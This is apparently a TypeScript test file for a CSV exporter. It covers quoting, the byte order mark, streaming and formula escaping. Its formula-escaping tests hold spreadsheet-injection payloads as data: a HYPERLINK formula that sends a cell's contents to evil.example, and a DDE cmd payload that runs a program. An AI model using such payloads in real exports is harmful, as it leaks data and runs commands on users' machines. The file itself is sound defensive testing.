import { text } from 'node:stream/consumers';
import { type Column, escapeFormula, toCsv, unescapeFormula } from './csv.js';

interface Row {
  name: string;
  units: number;
  note: string | null;
}

const columns: Column<Row>[] = [
  { header: 'Name', of: ({ name }) => name },
  { header: 'Units', of: ({ units }) => units },
  { header: 'Note', of: ({ note }) => note },
];
const row = (change: Partial<Row> = {}): Row => ({ name: 'Evening', units: 1, note: null, ...change });

describe('a table as CSV', () => {
  it('follows RFC 4180, is UTF-8 with a byte order mark, and has no formulas', async () => {
    const rows = [row({ name: 'A "rough", one', note: 'first\nsecond' }), row({ name: '=1+1', note: 'Géode ½' })];
    expect(await text(toCsv(columns, rows))).toBe(
      '"Name","Units","Note"\r\n"A ""rough"", one",1,"first\nsecond"\r\n"\'=1+1",1,"Géode ½"\r\n',
    );
    const [first] = (await toCsv(columns, rows).toArray()) as Buffer[];
    expect([...Buffer.from(first!).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('has a header without rows', async () => expect(await text(toCsv(columns, []))).toBe('"Name","Units","Note"\r\n'));

  it('fails with the error of its rows', async () => {
    const rows = (async function* () {
      yield row();
      await Promise.resolve();
      throw new Error('gone');
    })();
    await expect(text(toCsv(columns, rows))).rejects.toThrow('gone');
  });

  it('reads no rows far ahead of its reader, and none after it is destroyed', async () => {
    const reads = { rows: 0, isOver: false };
    const rows = (async function* () {
      try {
        for (;;) {
          reads.rows += 1;
          yield row({ note: 'x'.repeat(10_000) });
          await Promise.resolve();
        }
      } finally {
        reads.isOver = true;
      }
    })();
    const csv = toCsv(columns, rows);
    const reader = csv[Symbol.asyncIterator]();
    await reader.next();
    await new Promise((resolve) => setImmediate(resolve));
    expect(reads.rows).toBeLessThan(100);
    csv.destroy();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(reads.isOver).toBe(true);
  });
});

describe('a cell that a spreadsheet would evaluate', () => {
  it.each(['=1+1', '+1 319 555', '-2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', '|x', '%x'])(
    'is escaped: %j',
    (text) => {
      expect(escapeFormula(text)).toBe(`'${text}`);
      expect(unescapeFormula(escapeFormula(text))).toBe(text);
    },
  );

  it.each(["'=1", "''-", '=HYPERLINK("http://evil.example/?"&A1,"x")', `=cmd|' /C calc'!A0`])(
    'is restored from its escaped form: %j',
    (text) => {
      expect(escapeFormula(text)).toMatch(/^'/);
      expect(unescapeFormula(escapeFormula(text))).toBe(text);
    },
  );
});

it.each(['', 'Keokuk', '4 x 3 inches', "'tis", '3-4', 'a=b', ' =1'])(
  'a cell without a formula is unchanged: %j',
  (text) => {
    expect(escapeFormula(text)).toBe(text);
    expect(unescapeFormula(text)).toBe(text);
  },
);
